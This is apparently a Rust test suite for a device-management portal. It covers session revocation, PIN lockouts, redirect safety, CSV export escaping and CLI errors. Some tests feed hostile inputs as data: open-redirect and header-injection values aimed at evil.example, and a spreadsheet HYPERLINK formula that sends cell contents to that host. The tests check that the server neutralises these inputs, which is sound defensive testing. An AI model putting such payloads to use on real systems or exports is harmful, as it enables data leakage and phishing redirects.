//! Sessions the server takes back, sign-in throttling per line, the
//! sign-in redirect, spreadsheet-safe exports, the handset's own state in
//! lists, the portal's error pages and the CLI's edges.

use mdm::auth::Role;
use reqwest::Method;
use serde_json::{json, Value};

use crate::common::{client, csrf_of, profile_json, run_mdm, spawn_app_with, TestApp};
use crate::common::{spawn_app, SendJson, ADMIN_PASSWORD};

/// Signs `c` in as a staff user; returns the session cookie it was given.
async fn staff_sign_in(app: &TestApp, c: &reqwest::Client, user: &str, password: &str) -> String {
    session_cookie(&crate::common::staff_sign_in(app, c, user, password).await)
}

/// The `mdm_session=…` pair a response sets.
fn session_cookie(r: &reqwest::Response) -> String {
    r.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("mdm_session="))
        .and_then(|v| v.split(';').next())
        .expect("a session cookie")
        .to_string()
}

/// The status of a GET sent with nothing but a copy of a session cookie.
async fn with_copy(app: &TestApp, cookie: &str, path: &str) -> u16 {
    client()
        .get(app.url(path))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

async fn subscriber_sign_in(app: &TestApp, c: &reqwest::Client, mdn: &str, pin: &str) -> u16 {
    subscriber_sign_in_from(app, c, "127.0.0.1", mdn, pin).await
}

/// Signs in as a subscriber behind the trusted proxy, for `address`.
async fn subscriber_sign_in_from(
    app: &TestApp,
    c: &reqwest::Client,
    address: &str,
    mdn: &str,
    pin: &str,
) -> u16 {
    crate::common::subscriber_sign_in(app, c, mdn, pin, Some(address))
        .await
        .status()
        .as_u16()
}

async fn user_id(app: &TestApp, name: &'static str) -> i64 {
    app.with_conn(move |c| {
        use diesel::prelude::*;
        use mdm::db::schema::users;
        users::table
            .filter(users::username.eq(name))
            .select(users::id)
            .first::<i64>(c)
            .unwrap()
    })
    .await
}

#[tokio::test]
async fn disabling_a_user_ends_their_open_sessions() {
    let app = spawn_app().await;
    app.add_user("temp1", "temp1-password-1", Role::Operator)
        .await;
    let temp1 = client();
    let cookie = staff_sign_in(&app, &temp1, "temp1", "temp1-password-1").await;
    let (status, html) = {
        let r = temp1.get(app.url("/devices/new")).send().await.unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    };
    assert_eq!(status, 200);
    let csrf = csrf_of(&html);

    app.login_admin().await;
    let id = user_id(&app, "temp1").await;
    let admin_csrf = app.csrf("/admin/users").await;
    let r = app
        .post_form(
            &format!("/admin/users/{id}/disable"),
            &[("csrf", &admin_csrf)],
        )
        .await;
    assert_eq!(r.status().as_u16(), 303);

    // The next request is refused, and a write with a valid form changes nothing.
    assert_eq!(with_copy(&app, &cookie, "/devices").await, 303);
    let r = temp1
        .post(app.url("/devices/new"))
        .form(&[
            ("esn", "9F100001"),
            ("make", "Samsung"),
            ("model", "SCH-U350"),
            ("firmware_version", "U350.01"),
            ("csrf", &csrf),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 303);
    assert!(r.headers()["location"]
        .to_str()
        .unwrap()
        .starts_with("/login"));
    assert_eq!(app.count("devices").await, 0);

    // Enabling the account again does not bring the old session back.
    let admin_csrf = app.csrf("/admin/users").await;
    app.post_form(
        &format!("/admin/users/{id}/enable"),
        &[("csrf", &admin_csrf)],
    )
    .await;
    assert_eq!(with_copy(&app, &cookie, "/devices").await, 303);
    let fresh = staff_sign_in(&app, &client(), "temp1", "temp1-password-1").await;
    assert_eq!(with_copy(&app, &fresh, "/devices").await, 200);
}

#[tokio::test]
async fn a_new_password_or_another_role_ends_a_users_sessions() {
    let app = spawn_app().await;
    app.add_user("olga", "olga-password-1", Role::Operator)
        .await;
    app.add_user("carl", "carl-password-1", Role::Operator)
        .await;
    let olga = staff_sign_in(&app, &client(), "olga", "olga-password-1").await;
    let carl = staff_sign_in(&app, &client(), "carl", "carl-password-1").await;
    assert_eq!(with_copy(&app, &olga, "/ops").await, 200);
    assert_eq!(with_copy(&app, &carl, "/ops").await, 200);

    let id = user_id(&app, "olga").await;
    app.with_conn(move |c| {
        mdm::auth::users::set_password(
            c,
            &mdm::registry::Actor::System("test"),
            id,
            "olga-password-2",
        )
        .unwrap()
    })
    .await;
    assert_eq!(with_copy(&app, &olga, "/ops").await, 303);

    app.with_conn(|c| {
        use diesel::prelude::*;
        use mdm::db::schema::users;
        diesel::update(users::table.filter(users::username.eq("carl")))
            .set(users::role.eq("care"))
            .execute(c)
            .unwrap()
    })
    .await;
    assert_eq!(with_copy(&app, &carl, "/ops").await, 303);
}

#[tokio::test]
async fn signing_out_ends_the_session_for_every_copy_of_its_cookie() {
    let app = spawn_app().await;
    let admin = client();
    let cookie = staff_sign_in(&app, &admin, "admin", ADMIN_PASSWORD).await;
    let html = admin
        .get(app.url("/ops"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(with_copy(&app, &cookie, "/ops").await, 200);
    let r = admin
        .post(app.url("/logout"))
        .form(&[("csrf", csrf_of(&html))])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 303);
    assert_eq!(with_copy(&app, &cookie, "/ops").await, 303);

    // A subscriber's too.
    let (_, token) = app.token(Role::Admin).await;
    let mut line = profile_json("2065550100");
    line["pin"] = json!("4321");
    app.api(Method::POST, "/profiles", &token)
        .json(&line)
        .send()
        .await
        .unwrap();
    let sub = client();
    let r = crate::common::subscriber_sign_in(&app, &sub, "2065550100", "4321", None).await;
    assert_eq!(r.status().as_u16(), 303);
    let cookie = session_cookie(&r);
    assert_eq!(with_copy(&app, &cookie, "/self/line/2065550100").await, 200);
    let html = sub
        .get(app.url("/self/line/2065550100"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    sub.post(app.url("/logout"))
        .form(&[("csrf", csrf_of(&html))])
        .send()
        .await
        .unwrap();
    assert_eq!(with_copy(&app, &cookie, "/self/line/2065550100").await, 303);
    // Signing in again works.
    assert_eq!(
        subscriber_sign_in(&app, &client(), "2065550100", "4321").await,
        303
    );
}

/// A server behind a trusted proxy, so that tests can sign in from
/// several addresses, and with lines that have PINs.
async fn behind_proxy(max_failures: i32, lines: &[(&str, &str)]) -> TestApp {
    let app = spawn_app_with(|c| {
        c.login_max_failures = max_failures;
        c.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    let (_, token) = app.token(Role::Admin).await;
    for (mdn, pin) in lines {
        let mut line = profile_json(mdn);
        line["pin"] = json!(pin);
        let r = app
            .api(Method::POST, "/profiles", &token)
            .json(&line)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 201);
    }
    app
}

#[tokio::test]
async fn a_pin_lock_holds_for_every_spelling_of_the_line() {
    let app = behind_proxy(3, &[("6462000002", "4321")]).await;
    // From three addresses, so that only the line's count reaches the limit:
    // a PIN is short, so a line locks at the strict limit from everywhere.
    for address in ["192.0.2.1", "192.0.2.2", "192.0.2.3"] {
        let status = subscriber_sign_in_from(&app, &client(), address, "6462000002", "0000").await;
        assert_eq!(status, 401);
    }
    for spelling in ["6462000002", "+1 646 200 0002", "(646) 200-0002"] {
        let status = subscriber_sign_in_from(&app, &client(), "192.0.2.9", spelling, "4321").await;
        assert_eq!(status, 429, "{spelling}");
    }
}

#[tokio::test]
async fn a_subscribers_right_pin_clears_their_typos_wherever_they_were_made() {
    let app = behind_proxy(3, &[("6462000003", "4321")]).await;
    let attempt = |from: &'static str, pin: &'static str| {
        let app = &app;
        async move { subscriber_sign_in_from(app, &client(), from, "6462000003", pin).await }
    };
    // Two typos at home, then the right PIN; two more typos on the move
    // later in the same window: the line counts two failures, not four.
    assert_eq!(attempt("192.0.2.21", "0000").await, 401);
    assert_eq!(attempt("192.0.2.21", "0000").await, 401);
    assert_eq!(attempt("192.0.2.21", "4321").await, 303);
    assert_eq!(attempt("192.0.2.22", "0000").await, 401);
    assert_eq!(attempt("192.0.2.22", "0000").await, 401);
    assert_eq!(attempt("192.0.2.22", "4321").await, 303);
}

#[tokio::test]
async fn signing_in_on_ones_own_line_does_not_wipe_the_failures_against_another() {
    let app = behind_proxy(5, &[("4152000001", "1234"), ("4152000002", "4321")]).await;
    let from = "192.0.2.7";
    let attempt = |mdn: &'static str, pin: &'static str| {
        let app = &app;
        async move { subscriber_sign_in_from(app, &client(), from, mdn, pin).await }
    };
    // Wrong PINs in several spellings of one line, each pair followed by a
    // sign-in on the attacker's own line from the same address.
    for spelling in ["4152000001", "(415) 200-0001"] {
        assert_eq!(attempt(spelling, "0000").await, 401);
        assert_eq!(attempt(spelling, "9999").await, 401);
        assert_eq!(attempt("4152000002", "4321").await, 303);
    }
    assert_eq!(attempt("+1 415 200 0001", "0000").await, 401);
    // Five wrong PINs against the line from that address: the line is
    // locked there, right PIN or not.
    assert_eq!(attempt("4152000001", "1234").await, 429);
    // The lock is that line's from that address: a neighbour behind the same
    // NAT still signs in; the attacked line is locked from everywhere.
    assert_eq!(attempt("4152000002", "4321").await, 303);
    let status = subscriber_sign_in_from(&app, &client(), "192.0.2.8", "4152000001", "1234").await;
    assert_eq!(status, 429);
}

#[tokio::test]
async fn the_sign_in_redirect_never_leaves_the_site_nor_fails() {
    for next in ["/\t/evil.example", "/\\evil.example", "/ops\nX-Evil: 1"] {
        let app = spawn_app().await;
        let csrf = app.csrf("/login").await;
        let r = app
            .post_form(
                "/login",
                &[
                    ("username", "admin"),
                    ("password", ADMIN_PASSWORD),
                    ("csrf", &csrf),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(r.status().as_u16(), 303, "{next:?}");
        assert_eq!(r.headers()["location"], "/", "{next:?}");
    }
}

#[tokio::test]
async fn exported_cells_never_run_as_spreadsheet_formulas() {
    let app = spawn_app().await;
    let (_, token) = app.token(Role::Admin).await;
    let mut line = profile_json("3125550150");
    line["subscriber_name"] = json!("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
    let r = app
        .api(Method::POST, "/profiles", &token)
        .json(&line)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 201);
    let r = app
        .api(Method::POST, "/devices", &token)
        .json(&json!({"esn": "9F100001", "make": "@SUM(1+1)", "model": "-2+3", "firmware_version": "U350.01", "profile_mdn": "3125550150"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 201);
    app.login_admin().await;
    let r = app.get("/devices/export.csv?esn=9F100001").await;
    assert_eq!(r.status().as_u16(), 200);
    let body = r.text().await.unwrap();
    let mut rows = csv::Reader::from_reader(body.as_bytes());
    let row = rows.records().next().expect("one row").unwrap();
    assert_eq!(&row[4], "'@SUM(1+1)");
    assert_eq!(&row[5], "'-2+3");
    assert_eq!(
        &row[9],
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
    );
    assert_eq!(&row[7], "3125550150", "plain values stay as they are");
}

#[tokio::test]
async fn lists_show_the_handsets_own_state_beside_the_lines() {
    let app = spawn_app().await;
    let (_, token) = app.token(Role::Admin).await;
    let p: Value = app
        .api(Method::POST, "/profiles", &token)
        .json(&profile_json("3125550160"))
        .send_json()
        .await;
    app.api(Method::POST, "/devices", &token)
        .json(&json!({"esn": "A3100001", "make": "Samsung", "model": "SCH-U350", "firmware_version": "U350.01", "profile_mdn": "3125550160"}))
        .send()
        .await
        .unwrap();
    let r = app
        .api(
            Method::POST,
            &format!("/profiles/{}/activation", p["id"]),
            &token,
        )
        .json(&json!({"state": "activated"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    // The handset alone is de-activated, as an ESN change leaves the one it replaced.
    app.with_conn(|c| {
        use diesel::prelude::*;
        use mdm::db::schema::devices;
        diesel::update(devices::table.filter(devices::esn.eq("A3100001")))
            .set(devices::activation_state.eq("deactivated"))
            .execute(c)
            .unwrap()
    })
    .await;

    let list: Value = app
        .api(Method::GET, "/devices?esn=A3100001", &token)
        .send_json()
        .await;
    assert_eq!(list["items"][0]["activation_state"], "deactivated");
    assert_eq!(list["items"][0]["line_activation_state"], "activated");

    app.login_admin().await;
    let (_, html) = app.page("/devices?esn=A3100001").await;
    let row = &html[html.find("id=\"device-results\"").unwrap()..];
    let states: Vec<&str> = row
        .match_indices("class=\"badge badge-")
        .map(|(i, _)| row[i + 19..].split('"').next().unwrap())
        .collect();
    assert_eq!(states, ["deactivated", "activated"], "handset, then line");

    let csv = app
        .get("/devices/export.csv?esn=A3100001")
        .await
        .text()
        .await
        .unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let header = rows.headers().unwrap().clone();
    let row = rows.records().next().unwrap().unwrap();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&row[col("activation_state")], "deactivated");
    assert_eq!(&row[col("line_activation_state")], "activated");

    let (code, out, err) = run_mdm(
        &app.database_url,
        &app.data_dir,
        &["device", "show", "A3100001"],
        None,
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("  State:      De-activated"), "{out}");
    assert!(out.contains("  Line state: Activated"), "{out}");
}

#[tokio::test]
async fn unreadable_addresses_get_the_portals_error_pages() {
    let app = spawn_app().await;
    app.login_admin().await;
    for (path, status) in [
        ("/devices/abc", 404),
        ("/care/profiles/abc", 404),
        ("/ops/prls/abc", 404),
        ("/devices?after=abc", 400),
    ] {
        let r = app.get(path).await;
        assert_eq!(r.status().as_u16(), status, "{path}");
        let ct = r.headers()["content-type"].to_str().unwrap().to_string();
        assert!(ct.starts_with("text/html"), "{path}: {ct}");
        let html = r.text().await.unwrap();
        assert!(html.contains("<html") && html.contains("</html>"), "{path}");
    }
    // The API keeps its JSON answers.
    let (_, token) = app.token(Role::Admin).await;
    let r = app
        .api(Method::GET, "/devices?after=abc", &token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 400);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "bad_request");
}

#[tokio::test]
async fn usernames_are_one_whatever_their_case() {
    let app = spawn_app().await;
    app.login_admin().await;
    let csrf = app.csrf("/admin/users").await;
    let r = app
        .post_form(
            "/admin/users",
            &[
                ("username", "Admin"),
                ("password", "another-pass-123"),
                ("role", "operator"),
                ("csrf", &csrf),
            ],
        )
        .await;
    assert_eq!(r.status().as_u16(), 409);
    assert!(r
        .text()
        .await
        .unwrap()
        .contains("User admin already exists"));
    assert_eq!(app.count("users").await, 1);
    // Any case of the name signs in, as the one account it is.
    let other = client();
    let cookie = staff_sign_in(&app, &other, "ADMIN", ADMIN_PASSWORD).await;
    let r = client()
        .get(app.url("/ops"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    assert!(r
        .text()
        .await
        .unwrap()
        .contains("<span class=\"who\">admin "));
}

#[test]
fn the_cli_ends_quietly_when_its_reader_goes() {
    use std::process::{Command, Stdio};
    let dir = tempfile::tempdir().unwrap();
    let (url, pg) = crate::common::fresh_database(dir.path());
    let mut child = Command::new(env!("CARGO_BIN_EXE_mdm"))
        .arg("migrate")
        .env("DATABASE_URL", &url)
        .env("MDM_DATA_DIR", dir.path().join("data"))
        .env("MDM_LOG", "warn")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // As `| head` does: the reader is gone before the command prints.
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    crate::common::drop_database(pg);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(stderr.trim().is_empty(), "{stderr}");
    assert_eq!(out.status.code(), Some(141));
}

#[tokio::test]
async fn cli_and_api_edges_say_what_is_wrong() {
    let app = spawn_app().await;
    let mdm = |args: &[&str]| run_mdm(&app.database_url, &app.data_dir, args, None);
    let (code, _, err) = mdm(&["outbox", "list", "--kind", "bogus"]);
    assert_ne!(code, 0);
    assert!(err.contains("--kind is one of"), "{err}");
    let (code, _, err) = mdm(&["outbox", "list", "--mdn", "abc"]);
    assert_ne!(code, 0);
    assert!(err.contains("--mdn"), "{err}");
    let (code, _, err) = mdm(&["outbox", "retry", "999"]);
    assert_ne!(code, 0);
    assert!(err.contains("no message 999"), "{err}");
    let bad = app.data_dir.join("no-such-dir").join("x.csv");
    let (code, _, err) = mdm(&["cdr", "--output", bad.to_str().unwrap()]);
    assert_ne!(code, 0);
    assert!(err.contains(bad.to_str().unwrap()), "{err}");

    let (_, token) = app.token(Role::Admin).await;
    let mut big = profile_json("3125550170");
    big["subscriber_name"] = json!("x".repeat(1_100_000));
    let r = app
        .api(Method::POST, "/profiles", &token)
        .json(&big)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 413);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "too_large");
}
